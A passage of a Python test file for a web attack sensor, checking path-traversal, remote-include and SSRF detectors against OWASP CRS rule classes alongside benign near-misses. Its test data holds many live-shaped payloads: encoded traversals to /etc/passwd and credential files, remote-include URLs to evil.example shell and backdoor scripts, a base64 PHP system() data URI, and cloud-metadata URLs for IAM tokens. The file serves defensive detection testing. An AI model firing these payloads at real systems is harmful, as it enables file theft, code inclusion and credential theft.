    form("text", "Windows path: C:\\Program Files (x86)\\Steam\\steamapps"), qv("q", "what does ../../ mean in a path"),
    qv("q", ".htaccess redirect rules"), qv("q", "/proc/meminfo explained"), form("msg", "check your ~/.bashrc file please"),
    qv("url", "http://example.com:8080/app"), qv("url", "https://shop.example:8443/admin"),
    qv("feed", "https://feeds.example.org/podcast.xml"),
    qv("avatar", "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200"), qv("link", "https://t.co/AbCdEf"),
    q("next", "%2Fdashboard%3Ftab%3Dsettings"), qv("git", "git@github.com:org/repo.git"), qv("image", "registry.local:5000/app:1.2"),
    qv("mirror", "http://deb.debian.org/debian"), qv("proxy", "http://proxy.example.com:3128"),
    qv("smtp", "smtp://mail.example.com:587"), qv("db", "postgres://app:secret@db.example.com:5432/app"),
    qv("q", "0/5 stars"), qv("q", "dict: a python type"), qv("q", "ldap: invalid credentials"),
    js({"redirect_uri": "http://127.0.0.1:8400/callback"}), qv("q", "... and then it worked"),
    qv("share", "\\\\fileserver\\backups\\2024"), js({"profile_url": "https://medium.com/@jane/my-first-post-abc123"}),
    qv("url", "https://mastodon.social/@jane"), qv("ref", "https://shop.example.com/cart"),
    qv("q", "php.ini upload_max_filesize"), qv("q", "/etc/nginx/nginx.conf example"), qv("q", "system32 folder is huge"),
    form("msg", "I added the alias to my .profile but it is not picked up"), qv("file", "nginx.conf"),
    qv("q", "open %temp% and delete files"), js({"src": "https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js"}),
    qv("src", "//cdn.example.net/lib.js"),
]


# ----------------------------------------------------------------------------------------------------------------
# Benign near-misses: what a shop, a CMS, a docs site, a forum or a SaaS API receives that looks similar
BENIGN = [
    # relative asset links and breadcrumbs in CMS fields
    qv("img", "../img/a.png"), qv("src", "../assets/css/site.css"), form("body", '<p><img src="../images/logo.png"> Our new logo</p>'),
    js({"page": {"html": '<a href="../about/">About us</a> and <img src="../img/team.jpg">'}}),
    qv("crumb", "Home / Products / Shoes"), qv("breadcrumb", "Home > Blog > 2024 > June"),
    js({"breadcrumbs": ["Home", "Docs", "Getting started"]}), qv("path", "docs/getting-started/install"),
    # version strings, file names with dots
    qv("v", "1.2.3"), qv("version", "v2.0.0-rc.1"), qv("file", "report.v1.2.final.pdf"), qv("name", "my.file.name.tar.gz"),
    qv("pkg", "0.9.1/CHANGELOG.md"), qv("ref", "release/1.4.2"), qv("file", "photo..jpg"), qv("q", "2.5...3.0"),
    qv("file", "Q3.results.xlsx"), qv("build", "10.0.19045.3803"), qv("ver", "1.0.0.1"),
    # ordinary external URLs in URL-ish fields
    qv("website", "https://www.example.org/about"), qv("redirect", "https://accounts.example.com/callback?x=1"),
    qv("avatar_url", "https://cdn.example.net/u/123.png"), qv("url", "https://news.example.com/article/123"),
    qv("next", "/account/orders?page=2"), qv("return_to", "https://shop.example/cart"),
    form("homepage", "https://janedoe.dev"), js({"profile": {"website": "https://github.com/janedoe"}}),
    js({"webhook": "https://hooks.slack.com/services/T000/B000/XXXX"}), qv("feed", "https://blog.example.com/rss.xml"),
    qv("url", "https://www.youtube.com/watch?v=dQw4w9WgXcQ"), qv("link", "http://example.com/page?id=10&ref=home"),
    qv("image", "https://images.example.com/p/12345/large.jpg?w=800"), qv("callback", "https://app.example.io/oauth/callback"),
    qv("url", "https://docs.python.org/3/library/ipaddress.html"), qv("source", "https://en.wikipedia.org/wiki/Localhost"),
    qv("url", "https://10times.com/events"), qv("url", "https://127news.example.com/"),
    # dates and fractions
    qv("date", "2024/06/01"), qv("d", "06/01/2024"), qv("q", "3/4 cup sugar"), qv("period", "2024-06-01/2024-06-30"),
    # Windows paths in support text
    form("message", "My files are in C:\\Users\\John\\Documents\\report.docx and Word won't open them"),
    form("message", "I installed it to C:\\Program Files\\Acme and now it crashes on start"),
    js({"ticket": {"body": "The log says D:\\logs\\app\\2024-06-01.log is locked by another process"}}),
    # /etc/ and friends mentioned in prose (docs search, Q&A)
    qv("q", "how to edit /etc/hosts on mac"), qv("q", "what is /etc/passwd used for"), qv("q", "/etc/fstab options explained"),
    qv("q", "difference between /etc/profile and ~/.bashrc"), qv("q", "nginx config in /etc/nginx/sites-available not loaded"),
    qv("q", "where does /var/log/syslog rotate"), qv("search", "proc self environ meaning"),
    form("post", "Check /proc/cpuinfo to see how many cores you have."),
    form("post", "You can also put the key in ~/.ssh/config so you don't have to type it."),
    js({"comment": "Run `cat /etc/os-release` to find your distro version."}),
    # IPs in logs and config, localhost in a developer forum post
    form("log", "Jun 01 10:00:01 web1 sshd[1234]: Accepted publickey for deploy from 10.0.0.5 port 52344"),
    form("log", '127.0.0.1 - - [01/Jun/2024:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 512'),
    qv("ip", "127.0.0.1"), qv("ip", "192.168.1.20"), qv("allow", "127.0.0.0/8"), qv("cidr", "0.0.0.0/0"),
    qv("cidr", "10.0.0.0/16"), qv("subnet", "192.168.0.0/24"),
    form("post", "My app runs on localhost:3000 but the API on localhost:8080 gets CORS errors, any idea?"),
    form("post", "Try http://localhost:8000 in your browser after running `python -m http.server`."),
    js({"question": "Why does 127.0.0.1 work but localhost doesn't resolve inside the container?"}),
    qv("q", "localhost refused to connect"), qv("q", "0.0.0.0 vs 127.0.0.1"), qv("q", "169.254 address windows fix"),
    form("post", "The AWS metadata service lives at a link-local address; use IMDSv2 tokens."),
    # other things with dots and slashes
    qv("q", "..."), qv("q", "wait... what?"), qv("title", "Loading..."), form("comment", "Hmm.... not sure about this one"),
    qv("path", "/blog/2024/06/my-first-post"), qv("sort", "price.desc"),
    qv("q", "c++ vs c#"), qv("tag", "node.js"), qv("file", ".gitignore tutorial"), qv("q", "what is a .env file"),
    qv("q", "web.config vs appsettings.json"), qv("q", "WEB-INF folder purpose"), qv("file", "id_rsa.pub format"),
    js({"files": ["README.md", "src/main.py", "docs/index.rst"]}), qv("asset", "/static/js/app.3f2a1b.js"),
    path("/docs/etc/hosts-file-format"), path("/blog/2024/06/01/release-1.2.3"),
    path("/wiki/Passwd_(file)"), path("/files/report.final.v2.pdf"), path("/api/v1/users/me"),
    cookie("theme=dark; lang=en-US; last_path=/shop/cart"), cookie("returnUrl=%2Faccount%2Forders"),
    header("X-Forwarded-For", "10.0.0.1, 127.0.0.1"),
    header("Origin", "http://localhost:3000"), header("X-Forwarded-Host", "shop.example"),
    xml("<config><server>db.internal.example.com</server><port>5432</port></config>"),
    js({"data_url": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}),
    qv("q", "php://input explained"), qv("q", "ftp vs sftp"), qv("scheme", "https"), qv("q", "file:// urls in chrome"),
    form("bio", "I work at 10x Genomics. Previously at 127 Labs; see my site janedoe.dev."),
    qv("page", "about-us"), qv("template", "invoice_v2"), qv("include", "comments,author"), qv("file", "invoice-2024-06.pdf"),
    js({"settings": {"theme": "themes/dark.css", "layout": "two-column"}}), qv("lang", "en_GB"),
    qv("q", "..\\ in windows paths means parent folder"), qv("q", "node ../ relative import"),
    qv("host", "api.example.com:443"), qv("server", "mail.example.org"),
]


# Benign values above that only *other* detectors flag today (not ptrav/rfi/ssrf): for these the test asserts that no
# path/URL family fires; the verdict belongs to those detectors (see the report of this round).
OTHER_FAMILY_FP: set[str] = set()


def _label(r) -> str:
    return r.body.decode("latin-1") if r.body else r.target if len(r.headers) < 2 else f"{r.target} {r.headers[1]}"


def _ids(rs) -> list[str]:
    return [f"{i}:{_label(r)[:70]}" for i, r in enumerate(rs)]


ALL_ATTACKS = ATTACKS + FRESH + FRESH3 + FRESH4
ALL_BENIGN = BENIGN + FRESH_BENIGN


def test_other_family_fp_list_is_exact(engine):
    labels = {_label(r) for r in _NEAR_MISSES}
    assert _OTHER_FAMILY_FP <= labels, _OTHER_FAMILY_FP - labels
    # and only values still flagged by another family: a fixed one must have its whole verdict asserted clean
    byl = {_label(r): r for r in _NEAR_MISSES}
    assert not [lab for lab in _OTHER_FAMILY_FP if verdict(engine.inspect(byl[lab])) != "attack"]


# --- the analysers directly: structure the carriers above cannot reach yet, and near-misses beside each rule
@pytest.mark.parametrize("v", ["/proxy/http://169.254.169.254/latest/meta-data/", "/image/http://127.0.0.1:8080/admin",
                               "http:0xA9FEA9FE", "http:/\\/\\127.0.0.1/", "//169.254.169.254/latest/",
                               "http://127.0.0.1#@evil.example/", "http://127.1:80\\@evil.example/", "http://localhost./",
                               "http://[::127.0.0.1]/", "http://redis:6379/", "http://api.internal/", "http://x.svc.cluster.local/",
                               "http://127.0.0.1.attacker.example/", "http://10-0-0-1.attacker.example:8080/",
                               "http://consul.service.consul:8500/", "http://192.0.0.192/latest/", "http://mail.example.com:25/",
                               # round 2: IPv4 inside IPv6 transition addresses (NAT64, 6to4)
                               "http://[64:ff9b::a9fe:a9fe]/latest/", "http://[2002:a00:1::]/"])
def test_ssrf_url_shapes(v):
    from sensor.detect import ssrf
    f = ssrf.analyze(v)
    assert f is not None and f.score >= THRESHOLD, (v, f)


@pytest.mark.parametrize("v", ["127.0.0.0/8", "0.0.0.0/0", "0.9.1/CHANGELOG.md", "0/5 stars", "dict: a python type",
                               "localhost:3000", "http://localhost:3000/callback", "http://127.0.0.1:8400/oauth2/callback",
                               "169.254.169.254/latest/user-data", "169.254.169.254", "[::ffff:a9fe:a9fe]", "https://g\\oogle.com",
                               "http://example.com:8080/", "postgres://app@db.example.com:5432/app",
                               "http://ec2-3-4-5-6.compute.amazonaws.com/", "http://v1.2.3.4.release.example/",
                               "https://cdn-10-20-30-40.example.net/x", "see http://localhost:8000 in the browser"])
def test_ssrf_near_misses(v):
    from sensor.detect import ssrf
    f = ssrf.analyze(v)
    assert f is None or f.score < THRESHOLD, (v, f)


@pytest.mark.parametrize("v,param,want", [
    ("//evil.example/shell.php", "template", True), ("//cdn.example.net/lib.js", "src", False),
    ("\\\\evil.example@SSL\\DavWWWRoot\\x.php", "x", True), ("\\\\fileserver\\backups\\2024", "share", False),
    ("php://filter/resource=index.php", "p", True), ("php://input explained", "q", False),
    ("file:///etc/passwd", "u", True), ("file:// urls in chrome", "q", False),
    ("http://example.com%2f:x@evil.example/".replace("%2f", "/"), "x", True),
    ("https://medium.com/@jane/post", "x", False), ("https://outlook.office.com/webhook/a@b/Incoming/1", "x", False),
    ("http://203.0.113.5/x.txt", "x", True), ("http://127.0.0.1:8400/callback", "redirect_uri", False),
    ("data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=", "avatar", False),
    ("data:image/svg+xml;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "avatar", True),
])
def test_rfi_shapes_and_near_misses(v, param, want):
    from sensor.detect import rfi
    f = rfi.analyze(v, param, "shop.example")
    assert (f is not None and f.score >= THRESHOLD) == want, (v, f)


def test_own_host_lookalikes():
    from sensor.detect import rfi
    assert rfi.analyze("https://shop.example.evil.example/", "x", "shop.example").score >= THRESHOLD
    assert rfi.analyze("https://shop.example-login.evil.example/", "x", "shop.example").score >= THRESHOLD
    for v in ("https://my-shop.example/thanks", "https://shop.example.com/cart", "https://www.shop.example/"):
        f = rfi.analyze(v, "x", "shop.example")
        assert f is None or f.score < THRESHOLD, (v, f)


@pytest.mark.parametrize("v,want", [
    ("/etc/kubernetes/admin.conf", True), ("/proc/1/maps", True), ("/etc//passwd", True), ("/etc/./shadow", True),
    ("..%c0%2e..%c0%2e/etc/passwd", True), ("..%uEFC8..%uEFC8etc%uEFC8passwd", True), ("C:\\xampp\\apache\\conf\\httpd.conf", True),
    ("cat /etc/hosts", True), ("what is /etc/passwd used for", False), ("edit C:\\Windows\\System32\\drivers\\etc\\hosts", False),
    ("cd ../../ goes up two folders", False), ("../../ goes up to /etc/passwd", True), ("... and that's all", False),
    ("ldap://...}", False), ("/...{file}", True), ("docs/etc/notes.txt", False),
])
def test_ptrav_shapes_and_near_misses(v, want):
    from sensor.detect import ptrav
    f = ptrav.analyze(v)
    assert (f is not None and f.score >= THRESHOLD) == want, (v, f)


def test_set_sizes():
    assert len(ALL_ATTACKS) >= 150 and len(ALL_BENIGN) >= 100
    assert len({_label(r) for r in ALL_ATTACKS}) == len(ALL_ATTACKS), "duplicate attack"


# ================================================================================================================
# Round 2: every attack *class* of CRS 930/931 (3.3.4, PL1-2) and the v4 additions 930121, 931131, 934110, 934120,
# written from the rule's intent (msg, targets, vocabulary), never from its regression tests. First-pass numbers of
# the code before this round's changes are in the round-2 report.
def hdr(name: str, value: str, target: str = "/"):
    return req(target, headers=[(name, value)])


def raw_form(body: str):
    return req("/submit", "POST", headers=_FORM, body=body.encode())


CLASSES: list[tuple[str, str, list]] = [
    ("encoded traversal (IIS/overlong/%u/double/0x)", "930100", [
        q("f", "..%c0%9v..%c0%9v..%c0%9vetc%c0%9vpasswd"), q("f", "..%c1%8s..%c1%8s..%c1%8swinnt%c1%8swin.ini"),
        q("f", "..%c1%pc..%c1%pc..%c1%pcwindows%c1%pcwin.ini"), q("f", "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc%f0%80%80%afpasswd"),
        q("f", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215group"), q("f", "%u2024%u2024/%u2024%u2024/%u2024%u2024/etc/hosts"),
        q("f", "0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fissue"), path("/static/%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66etc/passwd"),
        path("/img/..%u2215..%u2215..%u2215config%u2215app.yml"), hdr("X-Template-Path", "%2e%2e%5c%2e%2e%5c%2e%2e%5capp%5cweb.config"),
        cookie("skin=%252e%252e%252f%252e%252e%252f%252e%252e%252fconfig"), js({"asset": "..%c0%af..%c0%af..%c0%afsrv/app/.env"}),
        xml("<job><input>%2e%2e%2f%2e%2e%2f%2e%2e%2fopt%2fapp%2fsettings.py</input></job>"), q("f", ".%00./.%00./.%00./etc/passwd"),
    ]),
    ("plain traversal ../ and ..\\ in any carrier", "930110", [
        q("dir", "../../.."), js({"export": {"folder": "..\\..\\..\\"}}), hdr("X-Upload-Dir", "../../../var/www/html"),
        path("/a/b/../../../../srv/secret.txt"), cookie("folder=../../../"), xml('<tpl name="x" src="../../../../app/config.php"/>'),
        form("attachment", "..\\..\\..\\Users\\Public\\x.txt"), raw_form("name=report&dest=..%2F..%2F..%2Ftmp%2Fx"),
        hdr("User-Agent", "Mozilla/5.0 ../../../../../../home/app/.netrc"), q("src", "images/../../../../config/master.key"),
        upload("..\\..\\..\\..\\ProgramData\\startup.bat"), js({"files": ["a.txt", "../../../../root/flag.txt"]}),
    ]),
    ("OS file access by name (lfi-os-files vocabulary)", "930120", [
        qv("f", "/usr/local/cpanel/logs/access_log"), qv("f", "/var/cpanel/cpanel.config"), qv("f", "/etc/vsftpd.conf"),
        qv("f", "/etc/samba/smbpasswd"), qv("f", "/usr/local/etc/webmin/miniserv.users"), qv("f", "/var/lib/pgsql/data/pg_hba.conf"),
        qv("f", "C:\\xampp\\phpMyAdmin\\config.inc.php"), qv("f", "/opt/lampp/etc/httpd.conf"), qv("f", "/root/.mysql_history"),
        qv("f", "/home/deploy/.python_history"), form("src", "/usr/local/jakarta/tomcat/conf/server.xml"),
        js({"read": "/etc/redis/redis.conf"}), cookie("inc=/etc/php5/apache2/php.ini"), req("/view?/etc/shadow=1"),
        raw_form("../../../../etc/passwd=x&a=b"), q("doc", "c:%5cwindows%5csystem32%5clogfiles%5cmsftpsvc1"),
        xml("<r><f>/proc/self/environ</f></r>"), qv("f", "/var/log/exim_mainlog"),
    ]),
    ("OS file access in request headers", "930121 (v4)", [
        hdr("X-File", "/etc/shadow"), hdr("X-Include", "/proc/self/environ"), hdr("X-Config-Path", "C:\\Windows\\win.ini"),
        hdr("User-Agent", "<?php include('/etc/passwd'); ?>"), hdr("X-Original-URL", "/WEB-INF/web.xml"),
        hdr("X-Rewrite-URL", "/../../etc/passwd"), hdr("X-Forwarded-Prefix", "/../../../etc/passwd"),
    ]),
    ("restricted files in the request path", "930130", [
        path("/.git/HEAD"), path("/.svn/entries"), path("/.hg/store/00manifest.i"), path("/.DS_Store"),
        path("/wp-config.php.bak"), path("/wp-config.old"), path("/sites/default/settings.php"), path("/app/etc/local.xml"),
        path("/sftp-config.json"), path("/.env.production"), path("/.npmrc"), path("/.aws/credentials"), path("/.htpasswd"),
        path("/config/parameters.yml"), path("/.idea/workspace.xml"), path("/.vscode/sftp.json"), path("/.bash_history"),
        path("/.ssh/id_rsa"), path("/database.yml"), path("/.git-credentials"), path("/web.config"), path("/.ws_ftp.ini"),
    ]),
    ("URL with an IP address as host", "931100", [
        qv("page", "http://203.0.113.77/inc.txt"), qv("lang", "ftp://198.51.100.3/en.php"), qv("template", "https://192.0.2.10:8443/t"),
        form("module", "http://45.33.32.156/m"), js({"layout": "http://8.8.4.4/x"}), cookie("skin=http://93.184.216.34/s.txt"),
        qv("data", "http://104.16.0.1/payload"), qv("inc", "file://10.1.1.1/share/x.php"),
    ]),
    ("URL in a parameter name known from RFI exploits", "931110", [
        q("GALLERY_BASEDIR", "http://evil.example/"), q("path[docroot]", "http://evil.example/"), q("appserv_root", "http://evil.example/"),
        q("config[root_dir]", "https://evil.example/"), q("_CONF[path]", "http://evil.example/x"), q("phpbb_root_path", "http://evil.example/"),
        q("base_path", "ftp://evil.example/"), q("abspath", "http://evil.example/"), q("includedir", "http://evil.example/"),
        raw_form("mosConfig_absolute_path=http://evil.example/x&task=1"), q("sourcedir", "http://evil.example/"),
        q("rootPath", "http://evil.example/"), q("libdir", "http://evil.example/"),
    ]),
    ("URL with a trailing question mark", "931120", [
        qv("x", "https://evil.example/x.txt?"), qv("x", "ftps://evil.example/c.txt?"), q("x", "http://evil.example/a%3F%3F"),
        cookie("a=http://evil.example/b?"), js({"p": {"q": "https://evil.example/s.txt?"}}), hdr("X-Template", "http://evil.example/t.txt?"),
        xml("<r><u>http://evil.example/s?</u></r>"), qv("x", "file://evil.example/s?"),
    ]),
    ("off-domain URL where code or templates are loaded", "931130", [
        qv("template", "https://evil.example/layout.html"), qv("skin", "http://evil.example/"), qv("lang", "https://cdn.evil.example/"),
        qv("page", "http://shop.example.evil.example/index"), js({"plugin": {"dir": "https://evil.example/p/"}}),
        form("theme", "ftp://evil.example/themes/"), qv("view", "http://evil.example/shell.php"), qv("cfg", "https://evil.example/c.inc"),
        qv("tpl", "https://evil.example/x.tpl?"), qv("page", "phar://evil.example/x"), qv("x", "zip://../uploads/a.zip%23s.php"),
    ]),
    ("off-domain URL in the request path", "931131 (v4)", [
        path("/index.php/http://evil.example/shell.txt"), path("/include/ftp://198.51.100.2/x.php"),
        path("/view/https://evil.example/backdoor.php"), path("/load/http:%2f%2fevil.example%2fs.txt%3f"),
        path("/index.php/http://203.0.113.9/c.txt"),
    ]),
    ("cloud metadata endpoints (every provider, every spelling)", "934110 (v4)", [
        qv("url", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
        qv("url", "http://169.254.169.254/opc/v2/instance/"), qv("url", "http://169.254.169.254/hetzner/v1/metadata"),
        qv("url", "http://169.254.169.254/metadata/v1.json"), qv("url", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        qv("url", "http://metadata.google.internal./computeMetadata/v1/instance/service-accounts/default/token"),
        qv("url", "http://0xa9.0xfe.0xa9.0xfe/latest/"), qv("url", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/"), qv("url", "http://[fd00:ec2::254]/latest/api/token"),
        hdr("X-Callback-Url", "http://169.254.169.254/latest/meta-data/"),
        js({"source": {"url": "http://instance-data.ec2.internal/latest/meta-data/"}}), xml("<r><u>http://metadata.google.internal/computeMetadata/v1/</u></r>"),
        cookie("u=http%3A%2F%2F100.100.100.200%2Flatest%2F"), qv("url", "http://169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ]),
    ("internal or encoded IP in a URL parameter", "934120 (v4)", [
        qv("url", "http://3232235521/"), qv("url", "http://0xc0a80001/"), qv("url", "http://0300.0250.0.1/"), qv("url", "http://0xc0.0xa8.0x00.0x01/"),
        qv("url", "http://0127.0000.0000.0001/"), qv("url", "http://10.1/"), qv("url", "http://[0::1]/"), qv("url", "http://[fe80::1%25eth0]/"),
        qv("url", "http://[::ffff:10.0.0.1]/"), qv("url", "http://[64:ff9b::7f00:1]/"), qv("url", "http://[2002:7f00:1::]/"),
        qv("url", "http://user:pass@10.0.0.1/"), qv("url", "sftp://10.0.0.8:22/"), qv("url", "ldap://127.0.0.1:389/dc=x"),
        hdr("X-Webhook-Url", "http://127.0.0.1:8080/admin"), hdr("X-Import-From", "http://[::1]:6379/"),
        js({"avatar": "http://0x7f.0.0.1/"}), form("feed", "http://0177.1/"),
    ]),
]
CLASS_ATTACKS = [r for _n, _ids_, rs in CLASSES for r in rs]

# Near-misses beside each class: values that share the surface of the rule and are ordinary traffic
CLASS_BENIGN = [
    # 930100/930110: encodings and dots that are not a walk up the tree
    qv("q", "%2e is the encoded dot"), q("name", "Caf%C3%A9%20..%20Bar"), qv("title", "Chapter 2 .. 3"), qv("v", "1..10"),
    qv("range", "2024-01-01..2024-01-31"), qv("git", "main..feature/login"), qv("q", "0x2e in hex is a dot"),
    # 930120/930121: OS file names as words
    qv("q", "smbpasswd command not found"), qv("q", "pg_hba.conf trust authentication"), qv("q", "php.ini location ubuntu"),
    hdr("X-File-Name", "invoice-2024.pdf"), hdr("X-Request-Path", "/account/orders"), hdr("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/126.0"),
    # 930130: paths that look like dotfiles or configs but are app routes
    path("/.well-known/security.txt"), path("/.well-known/openid-configuration"), path("/blog/what-is-a-dotenv-file"),
    path("/docs/config/parameters"), path("/help/web-config-guide"), path("/products/db-yml-viewer"),
    # 931100/931120/931130: URLs in ordinary fields
    qv("url", "https://partner.example.org/landing?utm=x"), qv("image", "https://images.example.net/a.jpg"),
    qv("next", "https://shop.example/checkout?step=2"), qv("site", "https://janedoe.dev/"),
    qv("url", "http://8.8.8.8/"), qv("redirect_uri", "https://app.example.com/oauth/callback"),
    qv("q", "file: report.pdf"), qv("q", "ftp: use sftp instead"), qv("label", "http: the protocol"), qv("note", "file:report.pdf"),
    # 931131: doubled slashes of a badly joined base URL
    path("//api/v1/users"), path("//index.php"), path("//static/app.3f2a.js"),
    qv("next", "/oauth/authorize?client_id=abc&redirect_uri=https://app.example.com/cb"),
    qv("return", "/cart?continue=https://shop.example/x"), qv("next", "/go?u=https://cdn.example.com/terms.txt"),
    # 934110/934120: IPs and names that are not internal targets
    qv("url", "http://203.0.113.10/status"), qv("ip", "169.254.169.254"), qv("q", "aws 169.254.169.254/latest/meta-data docs"),
    qv("url", "https://metadata.example.com/api"), qv("v", "10.1"), qv("ver", "10.1.2"), qv("url", "https://[2001:db8::1]/"),
    hdr("X-Forwarded-For", "10.0.0.5, 127.0.0.1"), hdr("Forwarded", "for=192.168.0.10;proto=https;by=10.0.0.1"),
    hdr("Via", "1.1 10.0.0.2 (squid/5.7)"), hdr("X-Real-IP", "172.16.5.4"),
]

# A fresh batch written after this round's fixes, measured before any further change (32/34; the two misses,
# IIS `%c1%1c` and `mysql.err`, were then closed)
FRESH5 = [
    q("f", "..%c0%qf..%c0%qf..%c0%qfetc%c0%qfhosts"), q("f", "%fc%80%80%80%80%ae%fc%80%80%80%80%ae/etc/passwd"),
    path("/assets/%c1%1c..%c1%1c..%c1%1cwinnt/system32/cmd.exe"), hdr("X-Asset", "%2e%2e%2f%2e%2e%2f%2e%2e%2fapp.db"),
    js({"opts": {"tpl": "..\\u2215..\\u2215..\\u2215config.json"}}), cookie("path=..%5c..%5c..%5cboot.ini"),
    qv("file", "/etc/apache2/sites-enabled/000-default.conf"), qv("file", "/usr/local/psa/admin/conf/php.ini"),
    qv("file", "C:\\Program Files\\MySQL\\data\\mysql.err"), form("doc", "/var/lib/mysql/my.cnf"), hdr("X-Path", "/proc/self/cmdline"),
    path("/.git/logs/HEAD"), path("/.svn/wc.db"), path("/app/etc/env.php"), path("/composer.lock"), path("/.env.local"),
    q("cfg[basedir]", "http://evil.example/"), q("plugin_root", "https://evil.example/"), q("INCLUDE_PATH", "ftp://evil.example/"),
    qv("module", "http://198.51.100.33/m"), qv("x", "ftp://evil.example/s.txt??"), js({"x": "https://evil.example/a.txt?"}),
    path("/wrap/https://evil.example/inc.php"), path("/fetch/ftp://evil.example/x"),
    qv("url", "http://[::ffff:a9fe:a9fe]:80/latest/meta-data/"), qv("url", "http://0xA9FEA9FE/computeMetadata/v1/"),
    qv("url", "http://169.254.169.254:80/metadata/instance?api-version=2021-02-01"), js({"hook": "http://100.100.100.200/latest/meta-data/"}),
    qv("url", "http://0x0a.0x00.0x00.0x01/"), qv("url", "http://167772161/"), qv("url", "http://[::ffff:192.168.1.1]/"),
    qv("url", "http://[64:ff9b::a00:1]/"), qv("url", "https://127.0.0.1.sslip.io/"), hdr("X-Image-Url", "http://0x7f000001/"),
]

CLASS_ATTACKS += FRESH5

# Round-2 fixes of false positives other helpers found (moved here from their lists once fixed) and DEV_DOCS
# searches that name a path in a phrase
FIXED_FP = [
    qv("q", "file: report.pdf"), form("msg", "ftp: not supported, use the upload form"), qv("q", "../relative path import"),
    qv("q", "/etc/passwd format"), qv("q", "c:/windows/win.ini file explained"),
]
# Benign values of this round's lists that another family's detector flags (reported to its owner)
OTHER_FAMILY_FP |= {"/view?q=aws%20169.254.169.254/latest/meta-data%20docs", "/view?q=/etc/passwd%20format"}


# A URL inside a request path is CRS v4 931131's class (PL2, even for this site's own host). Web archives and plain
# proxies do it by design: it scores just above the threshold, as the weakest rfi evidence, so a `disable rfi for
# /proxy/` rule is the documented cure; a URL that names code scores higher. Since round 5 a picture behind resize
# options (thumbor, imgproxy) is only reported: the options in front of the URL keep any include from opening it.
@pytest.mark.parametrize("target,score", [
    ("/unsafe/fit-in/300x300/https://cdn.example.com/img.jpg", 0.3), ("/web/2024/https://www.example.com/", 0.6),
    ("/proxy/https://images.example.org/photo.png", 0.6), ("/shop.example/https://shop.example/cart", 0.6),
    ("/index.php/http://evil.example/shell.txt", 0.7), ("/include/ftp://198.51.100.2/x.php", 0.85),
])
def test_url_inside_a_path(engine, target, score):
    hits = [h for h in engine.inspect(path(target)) if h.type == "rfi"]
    assert max(h.score for h in hits) == score and hits[0].rule == "rfi:embedded_url", hits


def test_metadata_address_without_scheme_is_only_reported(engine):
    # CRS's own negative test for 934110 agrees: the metadata address and path with no scheme is not a fetch target
    hits = engine.inspect(qv("host", "169.254.169.254/latest/meta-data/iam/security-credentials/"))
    assert verdict(hits) == "clean" and any(h.rule == "ssrf:cloud_metadata" for h in hits), hits


@pytest.mark.parametrize("name", ["GALLERY_BASEDIR", "path[docroot]", "rootPath", "phpbb_root_path", "includedir", "abspath"])
def test_include_parameter_names(name):
    from sensor.detect import rfi
    assert rfi.analyze("http://evil.example/", name, "shop.example").score >= THRESHOLD


@pytest.mark.parametrize("name", ["redir", "redirect_uri", "url", "callback", "image_url", "webhook", "feed_url", "return_to",
                                  "RelayState", "$schema", "xpath", "homepage"])
def test_url_parameter_names_are_not_include_names(name):
    from sensor.detect import rfi
    f = rfi.analyze("https://partner.example.org/x", name, "shop.example")
    assert f is None or f.score < THRESHOLD, (name, f)


def test_class_sizes():
    assert all(len(rs) >= 2 for _n, _i, rs in CLASSES)
    assert len({_label(r) for r in CLASS_ATTACKS}) == len(CLASS_ATTACKS), "duplicate class attack"


# ----------------------------------------------------------------------------------------------------------------
# Round 3: CRS 4.25 (REQUEST-930/931 and their .data vocabularies) as the checklist. Classes that are new or bigger in
# v4 than in 3.3.4, with payloads written for this round (never CRS regression tests); first-pass numbers of the code
# before this round's changes are in the round-3 report.
R3_CLASSES: list[tuple[str, str, list]] = [
    ("v4 encodings of dot and slash (%u002e/%u002f, %25c0%25ae, .%01., 0x5c)", "930100", [
        q("f", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fshadow"), q("f", "..%u002f..%u002f..%u002fwindows%u002fwin.ini"),
        q("f", "%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/etc/group"), q("f", "..%255c..%255c..%255cinetpub%255cwwwroot%255cweb.config"),
        q("f", ".%01./.%01./.%01./etc/hosts"), hdr("X-Template", "..0x5c..0x5c..0x5cboot.ini"),
        cookie("tpl=%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fconfig.yml"), js({"f": "\u002e\u002e\u2216\u002e\u002e\u2216app.ini"}),
    ]),
    ("Tomcat `..;` and three-dot segments", "930110", [
        path("/manager/..;/..;/WEB-INF/web.xml"), path("/api/v1/..;/actuator/env"), path("/static/..;/admin/"),
        q("file", ".../.../.../etc/hosts"), form("dir", "...\\...\\...\\windows\\win.ini"),
        hdr("X-Original-URL", "/public/..;/internal/config"),
    ]),
    ("v4 lfi-os-files: service and panel configs (etc/*, apache2/*, xampp, wamp, cpanel)", "930120", [
        qv("f", "/etc/letsencrypt/live/shop.example/privkey.pem"), qv("f", "/etc/gitlab/initial_root_password"),
        qv("f", "/etc/mysql/debian.cnf"), qv("f", "/etc/ansible/hosts"), qv("file", "/etc/systemd/system/app.service"),
        qv("f", "C:\\xampp\\apache\\logs\\access.log"), qv("f", "C:\\wamp\\bin\\apache\\apache2.4.9\\conf\\httpd.conf"),
        form("log", "/usr/local/apache2/conf/extra/httpd-vhosts.conf"), js({"path": "/opt/lampp/phpmyadmin/config.inc.php"}),
